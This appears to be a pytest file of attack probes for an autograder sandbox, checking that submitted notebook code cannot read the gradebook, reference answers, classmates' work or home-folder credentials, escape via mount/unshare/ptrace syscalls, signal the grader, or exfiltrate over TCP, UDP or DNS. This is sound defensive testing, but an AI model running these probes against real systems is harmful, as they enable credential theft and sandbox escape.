"""See what is secret: files, processes, memory and left-overs of others, and ways to carry out
what was seen.
"""

import pytest

from attacks.harness import attack
from attacks.outcomes import (
    ABSENT,
    DENIED,
    FORBIDDEN,
    MEMORY,
    NO_PROCESS,
    NOT_SUPPORTED,
    REFUSED,
    SYSCALLS,
    spying,
    told,
)

pytestmark = pytest.mark.alone

READS = "reads it"


def secret(what, *, stock=READS, here="there is no such file", **expected):
    return attack("secret", what, stock=stock, here=here, outcome=told(**expected))


def reads(hand, *names):
    spying(
        hand,
        """
        for name, path in paths.items():
            attempt(name, lambda: open(path, "rb").read(1000))
        """,
        paths={name: str(hand.bait.files[name]) for name in names},
    )


# --- files


@secret("Read the gradebook.", gradebook=ABSENT)
def read_gradebook(hand):
    reads(hand, "gradebook")


@secret("Read the secret that the seeds of the probes derive from.", secret=ABSENT)
def read_seed(hand):
    reads(hand, "secret")


@secret("Read the course's configuration.", config=ABSENT)
def read_configuration(hand):
    reads(hand, "config")


@secret("Read the module with the reference answers.", question=ABSENT)
def read_reference(hand):
    reads(hand, "question")


@secret("Read a classmate's submission.", classmate=ABSENT)
def read_classmate(hand):
    reads(hand, "classmate")


@secret(
    "Read passwords in the grader's home folder, and look for a home folder of any user.",
    home=ABSENT,
    there=[],
)
def read_home(hand):
    reads(hand, "home")
    hand.run(
        """
        import os, pwd
        homes = {os.path.expanduser("~"), "/root", "/home/user", "/home/ubuntu"}
        homes |= {user.pw_dir for user in pwd.getpwall()}
        names = (".ssh", ".netrc", ".bash_history", ".jupyter", ".config", ".aws", ".gitconfig")
        paths = [f"{home}/{name}" for home in sorted(homes) for name in names]
        tell("there", [path for path in paths if os.path.lexists(path)])
        """
    )


@secret(
    "Read what other programs left in the machine's temporary folders and shared memory.",
    temp=ABSENT,
    shm=ABSENT,
    outside=ABSENT,
)
def read_temporary(hand):
    reads(hand, "temp", "shm", "outside")


@secret(
    "Read every file that there is, and look for the grader's secret in them.",
    stock="finds it",
    here="the installation and one's own files are all there is",
    strange=[],
    found=[],
    searched=True,
)
def search_everything(hand):
    spying(
        hand,
        r"""
        import os, re, sys
        pattern = re.compile(pattern.encode())
        own = ("/proc", "/notebook", "/dev", "/sockets", "/writable")
        system = {"/usr/lib", "/usr/lib32", "/usr/lib64", "/usr/share/zoneinfo"}
        libraries = {path for path in sys.path if path.endswith("-packages")}
        installed = tuple({*system, sys.prefix, sys.base_prefix, *libraries, *package})
        strange, found, count = [], [], 0
        for folder, folders, files in os.walk("/"):
            if folder.startswith((*own, *installed)):
                folders[:] = []
                continue
            for name in files:
                path = f"{folder.rstrip('/')}/{name}"
                count += 1
                usual = path.startswith(("/etc/", "/tmp/.ipython/")) or path == "/tmp/kernel.json"
                if not usual and not path.endswith(installed):
                    strange.append(path)
                if pattern.search(open(path, "rb").read()) if os.path.isfile(path) else False:
                    found.append(path)
        tell("strange", strange)
        tell("found", found)
        tell("searched", count > 4)
        """,
        pattern=unlike_itself(hand.bait.token),
        package=packages(),
    )


def unlike_itself(text):
    """A pattern for `text` that does not match itself: whoever searches a memory with it does
    not find the search.
    """
    return f"{text[:4]}[{text[4]}]{text[5:]}"


def packages():
    """The folders of packages that are shown."""
    from autograder.sandbox import wall
    from autograder.values import frameworks

    return [
        str(folder)
        for name in ("autograder", *frameworks.packages())
        for folder in wall.locations(name)
    ]


@secret(
    "Go up from the root folder, from the working folder and through the first process's root.",
    stock="sees the whole machine",
    here="the same small root folder",
    same=True,
    homes=False,
)
def climb_out(hand):
    spying(
        hand,
        """
        import os
        top = "root"
        up = ["/..", "/proc/1/cwd/..", "/proc/self/cwd/../../..",
              *(f"/proc/{process}/{top}/.." for process in ("1", "self"))]
        tell("same", all(sorted(os.listdir(path)) == sorted(os.listdir("/")) for path in up))
        tell("homes", os.path.exists("/home"))
        """,
    )


@secret(
    "Escape by chroot, mount, a user namespace of one's own, or a file handle.",
    stock="fails for an ordinary user, works for root",
    here="not permitted",
    chroot=FORBIDDEN,
    calls=dict.fromkeys(
        ("mount", "unshare", "setns", "open_by_handle_at", "fsopen", "clone_newuser"),
        "EPERM",
    )
    | {"clone3": "ENOSYS"},
)
def escape_root(hand):
    spying(
        hand,
        SYSCALLS
        + """
        attempt("chroot", lambda: os.chroot("/tmp"))
        tell("calls", {name: call(*number) for name, number in calls.items()})
        """,
        calls={
            "mount": ((165, 40), 0, 0, 0, 0, 0),
            "unshare": ((272, 97), 0x10000000),
            "setns": ((308, 268), 0, 0),
            "open_by_handle_at": ((304, 265), 0, 0, 0),
            "fsopen": ((430, 430), 0, 0),
            "clone_newuser": ((56, 220), 0x10000011, 0, 0, 0, 0),
            "clone3": ((435, 435), 0, 0),
        },
    )


# --- processes and memory


@secret(
    "Read the environment of the grader.",
    here="an environment of its own",
    variable=None,
    in_proc=False,
    own=True,
)
def read_environment(hand):
    spying(
        hand,
        """
        import os
        tell("variable", os.environ.get(variable))
        own, first = (open(f"/proc/{who}/environ", "rb").read() for who in ("self", "1"))
        tell("in_proc", variable.encode() in own + first)
        tell("own", "AUTOGRADER_FD" in os.environ)
        """,
        variable=hand.bait.variable,
    )


@secret(
    "List the machine's processes with their commands, and read one's command and environment.",
    here="there is no process but its own",
    processes=["1"],
    command=ABSENT,
    environment=ABSENT,
    descriptors=ABSENT,
)
def see_processes(hand):
    spying(
        hand,
        """
        import os
        tell("processes", [name for name in os.listdir("/proc") if name.isdigit()])
        attempt("command", lambda: open(f"/proc/{process}/cmdline").read())
        attempt("environment", lambda: open(f"/proc/{process}/environ").read())
        attempt("descriptors", lambda: os.listdir(f"/proc/{process}/fd"))
        """,
        process=hand.bait.process,
    )


@secret(
    "Read another process's memory by ptrace, process_vm_readv, a "
    "descriptor of its own, or its /proc/PID/mem.",
    stock="works for processes of the same user where the machine allows it",
    here="not permitted",
    calls={
        "ptrace": "EPERM",
        "process_vm_readv": "EPERM",
        "pidfd_getfd": "EPERM",
        "kcmp": "EPERM",
        "pidfd_open": "ESRCH",
    },
    memory=ABSENT,
)
def read_other_memory(hand):
    pid = hand.bait.process
    spying(
        hand,
        SYSCALLS
        + """
        tell("calls", {name: call(*number) for name, number in calls.items()})
        attempt("memory", lambda: open(f"/proc/{process}/mem", "rb").read(10))
        """,
        process=pid,
        calls={
            "ptrace": ((101, 117), 16, pid, 0, 0),
            "process_vm_readv": ((310, 270), pid, 0, 0, 0, 0, 0),
            "pidfd_getfd": ((438, 438), 3, 0, 0),
            "kcmp": ((312, 272), pid, 1, 0, 0, 0),
            "pidfd_open": ((434, 434), pid, 0),
        },
    )


@secret(
    "Search its own memory, forked from a warm process, for the grader's "
    "secret and for the reference answers.",
    stock="finds nothing: its kernels are started anew",
    here="the warm process never held any",
    searched=True,
    hits={"token": 0, "probe": 0},
)
def search_own_memory(hand):
    spying(
        hand,
        MEMORY
        + """
        import re
        patterns = {name: re.compile(pattern.encode()) for name, pattern in patterns.items()}
        hits, searched = dict.fromkeys(patterns, 0), 0
        for block in blocks_of_memory():
            searched += len(block)
            for name, pattern in patterns.items():
                hits[name] += len(pattern.findall(block))
        tell("searched", searched > 10**8)
        tell("hits", hits)
        """,
        patterns={
            # A piece of it would be too much.
            "token": unlike_itself(hand.bait.token[-12:]),
            "probe": unlike_itself("one_bright_pixel"),
        },
    )


@secret(
    "Look for descriptors that the grader left open: files, folders, or sockets of others.",
    stock="finds those that Jupyter needs",
    here="its own sockets and the judge's line",
    files=[],
    kinds=["SOCK_STREAM"],
    peers=[],
)
def look_for_descriptors(hand):
    spying(
        hand,
        """
        import os, socket
        files, kinds, peers = [], set(), []
        for number in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{number}")
            except OSError:
                continue
            if target.startswith("socket:"):
                sock = socket.socket(fileno=os.dup(int(number)))
                kinds.add(sock.type.name)
                name = sock.getsockname()
                of_kernel = "kernel-" in str(name) and "/sockets/s" not in name
                if name and not name.startswith("/") or of_kernel:
                    peers.append(name)
                sock.close()
            elif target != "/dev/null" and not target.startswith(
                ("anon_inode:", f"/proc/{os.getpid()}/")
            ):
                files.append(target)
        tell("files", files)
        tell("kinds", sorted(kinds))
        tell("peers", peers)
        """,
    )


@secret(
    "Import the question package and the engine's catalogue of questions.",
    stock="there is no such thing: the tests stand in the notebook",
    here="no module of that name",
    questions="ModuleNotFoundError: No module named 'questions'",
    catalogue=True,
    loaded=[],
)
def import_questions(hand):
    spying(
        hand,
        """
        import importlib, sys
        attempt("questions", lambda: importlib.import_module("questions"))
        try:
            from autograder.questions import catalogue
            catalogue.find("small.total")
        except BaseException as error:
            named = "small" in getattr(catalogue, "__dict__", {})
            tell("catalogue", not named and type(error).__name__ != "AssertionError")
        # An empty folder stands where a package of questions is: it can be imported,
        # and holds nothing.
        packages = {name: module for name, module in sys.modules.items()
                    if name.partition(".")[0] in ("questions", "solutions")}
        tell("loaded", [name for name, module in packages.items()
                        if getattr(module, "__file__", None) or "." in name])
        """,
    )


@secret(
    "Ask the judge for hints and for the solution while it grades.",
    stock="there is none to ask",
    here="not shown while a class is graded",
    hint="Not shown while a class is graded.",
    solution="Not shown while a class is graded.",
)
def ask_for_solution(hand):
    spying(
        hand,
        """
        import autograder
        attempt("hint", lambda: autograder.hint("small.total").text)
        attempt("solution", lambda: autograder.solution("small.total").text)
        """,
    )


@secret(
    "Leave something behind for a later submission: files in every writable place, shared "
    "memory, a variable of the warm process.",
    stock="stays in the machine's temporary folders",
    here="ends with its kernel",
    left=True,
)
def leave_behind(hand):
    spying(
        hand,
        """
        import os, autograder, sys
        for folder in ("/tmp", "/dev/shm", "/notebook"):
            open(f"{folder}/left-behind", "w").write("left-behind")
        import _posixshmem
        _posixshmem.shm_open("/left-in-memory", os.O_CREAT | os.O_RDWR, 0o600)
        autograder.left_behind = os.environ["LEFT_BEHIND"] = "left-behind"
        tell("left", sorted(os.listdir("/dev/shm")) != [])
        """,
    )


@secret(
    "Look for classmates: their names, their folders and the keys of their kernels, in all of its "
    "memory and in the files of /proc.",
    stock="finds the folders of all, beside its own",
    here="nothing of others is there",
    searched=True,
    of_others={"names": 0, "folders": 0, "keys": 0},
)
def look_for_classmates(hand):
    spying(
        hand,
        MEMORY
        + """
        import os, re
        patterns = {name: re.compile(pattern.encode()) for name, pattern in patterns.items()}
        found, searched = {name: set() for name in patterns}, 0

        def search(block):
            for name, pattern in patterns.items():
                found[name].update(pattern.findall(block))

        for block in blocks_of_memory():
            searched += len(block)
            search(block)
        for folder in ("/proc", "/proc/self", "/proc/self/net", "/proc/sys/kernel"):
            for name in set(os.listdir(folder)) - {"kmsg", "kcore", "mem", "pagemap"}:
                try:
                    search(open(f"{folder}/{name}", "rb").read(10**6))
                except OSError:
                    pass
        tell("searched", searched > 10**8)
        own = {"names": 0, "folders": 1, "keys": 1}
        tell("of_others", {name: max(len(found[name]) - own[name], 0) for name in own})
        """,
        patterns={
            "names": unlike_itself("neighbor-") + "[1-3]",
            "folders": "/submissio[n]-[a-z0-9_]{8}",
            "keys": '"hmac-sha25[6]", "key": "[0-9a-f-]{33}',
        },
    )


@secret(
    "Take hold of the grader by its own line: the process at the other end, its descriptors, "
    "namespaces and signals, and what lies above one's own namespaces.",
    stock="there is no line",
    here="it learns that somebody is there",
    number=0,
    signalled=False,
    descriptor=False,
    namespaces=[],
)
def take_hold_of_the_grader(hand):
    spying(
        hand,
        SYSCALLS
        + """
        import fcntl, signal, socket, struct
        line = socket.socket(fileno=os.dup(int(os.environ["AUTOGRADER_FD"])))
        peer = line.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
        tell("number", struct.unpack("3i", peer)[0])
        so_peerpidfd = 77
        try:
            raw = line.getsockopt(socket.SOL_SOCKET, so_peerpidfd, 4)
            process = struct.unpack("i", raw)[0]
        except OSError:  # before Linux 6.5
            process = -1
        tell("signalled", call((424, 424), process, int(signal.SIGKILL), 0, 0) == 0)
        tell("descriptor", isinstance(call((438, 438), process, 0, 0), int))
        spaces = [f"/proc/self/ns/{name}" for name in os.listdir("/proc/self/ns")]
        own = {os.stat(space).st_ino for space in spaces}
        strange = []
        def ask(name, descriptor, request):
            try:
                got = fcntl.ioctl(descriptor, request, 0)
                if os.fstat(got).st_ino not in own:
                    strange.append((name, request))
            except OSError:
                pass
        for number in range(1, 11):
            ask("process", process, 0xFF00 | number)
        for space in spaces:
            descriptor = os.open(space, os.O_RDONLY)
            for number in (1, 2, 6, 8, 10, 11, 12):
                ask(space, descriptor, 0xB700 | number)
        tell("namespaces", strange)
        """,
    )


# --- the network


@secret(
    "Send what was read over TCP, to this machine.",
    stock="sends it",
    here="no network",
    sent=NOT_SUPPORTED,
    six=NOT_SUPPORTED,
)
def send_by_tcp(hand):
    spying(
        hand,
        """
        import socket
        address = ("127.0.0.1", port)
        attempt("sent", lambda: socket.create_connection(address, 1).sendall(b"here it is"))
        attempt("six", lambda: socket.socket(socket.AF_INET6).connect(("::1", port)))
        """,
        port=hand.bait.port,
    )


@secret(
    "Send what was read over UDP.",
    stock="sends it",
    here="no network",
    sent=NOT_SUPPORTED,
)
def send_by_udp(hand):
    spying(
        hand,
        """
        import socket
        address = ("127.0.0.1", port)
        datagram = socket.SOCK_DGRAM
        sending = lambda: socket.socket(socket.AF_INET, datagram).sendto(b"here it is", address)
        attempt("sent", sending)
        """,
        port=hand.bait.udp,
    )


@secret(
    "Send what was read as names that it has resolved (DNS).",
    stock="sends it",
    here="no network",
    resolved="gaierror: [Errno -3] Temporary failure in name resolution",
    fetched=True,
)
def send_by_name(hand):
    spying(
        hand,
        """
        import socket, urllib.request
        attempt("resolved", lambda: socket.getaddrinfo("secret.example.org", 80))
        try:
            urllib.request.urlopen("http://example.org", timeout=2)
        except OSError as error:
            tell("fetched", "Temporary failure" in str(error))
        """,
    )


@secret(
    "Open sockets of every other family: netlink, packets, virtual "
    "machines, Bluetooth, cryptography.",
    stock="opens most of them",
    here="only sockets among its own processes",
    opened=[],
)
def other_families(hand):
    spying(
        hand,
        """
        import socket
        opened = []
        for family in set(range(60)) - {socket.AF_UNIX}:
            kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)
            for kind in kinds:
                try:
                    socket.socket(family, kind).close()
                    opened.append(family)
                except OSError:
                    pass
        tell("opened", opened)
        """,
    )


@secret(
    "Talk to a program of the machine over its socket in the file "
    "system, directly and through a symbolic link.",
    stock="connects",
    here="there is no such file",
    direct=ABSENT,
    linked=ABSENT,
)
def connect_to_path(hand):
    spying(
        hand,
        """
        import os, socket
        attempt("direct", lambda: socket.socket(socket.AF_UNIX).connect(path))
        os.symlink(path, "/tmp/link")
        attempt("linked", lambda: socket.socket(socket.AF_UNIX).connect("/tmp/link"))
        """,
        path=str(hand.bait.path),
    )


@secret(
    "Talk to a program of the machine over an abstract socket, "
    "which has no path, and list all sockets.",
    stock="connects",
    here="abstract names are its own",
    connected=REFUSED,
    listed=False,
)
def connect_to_abstract(hand):
    spying(
        hand,
        """
        import socket
        attempt("connected", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + name))
        tell("listed", name in open("/proc/net/unix").read())
        """,
        name=hand.bait.abstract,
    )


@secret(
    "Learn the machine's name.",
    stock="learns it",
    here="every submission sees the same invented name",
    name="wall",
    hostname="wall",
)
def learn_name(hand):
    spying(
        hand,
        """
        import os, socket
        tell("name", os.uname().nodename)
        tell("hostname", socket.gethostname())
        """,
    )


@secret(
    "Read the machine's log and its physical memory.",
    stock="fails for an ordinary user, works for root",
    here="not permitted",
    kernel_log="EPERM",
    messages=DENIED,
    memory=ABSENT,
    disk=ABSENT,
)
def read_machine(hand):
    spying(
        hand,
        SYSCALLS
        + """
        tell("kernel_log", call((103, 116), 3, ctypes.create_string_buffer(100), 100))
        attempt("messages", lambda: open("/proc/kmsg", "rb").read(10))
        attempt("memory", lambda: open("/dev/mem", "rb").read(10))
        attempt("disk", lambda: open("/dev/vda", "rb").read(10))
        """,
    )


@secret(
    "Find what another submission has left: in the temporary folders, shared memory, and the "
    "warm process that both were forked from.",
    stock="finds files in the machine's temporary folders",
    here="nothing is left",
    files=[],
    shared=ABSENT,
    module=False,
    variable=None,
)
def find_left_behind(hand):
    spying(
        hand,
        """
        import os, autograder
        from multiprocessing import shared_memory
        folders = ("/tmp", "/dev/shm", "/notebook")
        tell("files", [path for folder in folders for path in os.listdir(folder) if "left" in path])
        attempt("shared", lambda: shared_memory.SharedMemory("left-in-memory").buf[:4])
        tell("module", hasattr(autograder, "left_behind"))
        tell("variable", os.environ.get("LEFT_BEHIND"))
        """,
    )


@secret(
    "Signal processes of the machine to learn which exist.",
    stock="learns it",
    here="there are only its own",
    exist=[1],
    victim=NO_PROCESS,
)
def probe_processes(hand):
    spying(
        hand,
        """
        import os
        def exists(pid):
            try:
                os.kill(pid, 0)
            except ProcessLookupError:
                return False
            return open(f"/proc/{pid}/status").read().split("Tgid:")[1].split()[0] == str(pid)
        tell("exist", [pid for pid in range(1, 5000) if exists(pid)])
        attempt("victim", lambda: os.kill(process, 0))
        """,
        process=hand.bait.process,
    )


def test_attack(attack, graded):
    graded.check(attack)
